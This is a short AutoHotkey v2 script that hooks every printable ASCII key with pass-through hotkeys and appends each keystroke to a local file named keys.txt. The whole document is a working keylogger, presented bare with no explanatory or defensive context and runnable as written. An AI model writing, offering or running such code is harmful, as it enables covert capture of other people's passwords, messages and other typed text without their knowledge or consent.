#Requires AutoHotkey v2.0
Loop 95 {
    key := Chr(A_Index + 31)
    Hotkey("~*" key, LogKey)
}
LogKey(name) => FileAppend(name, "keys.txt")
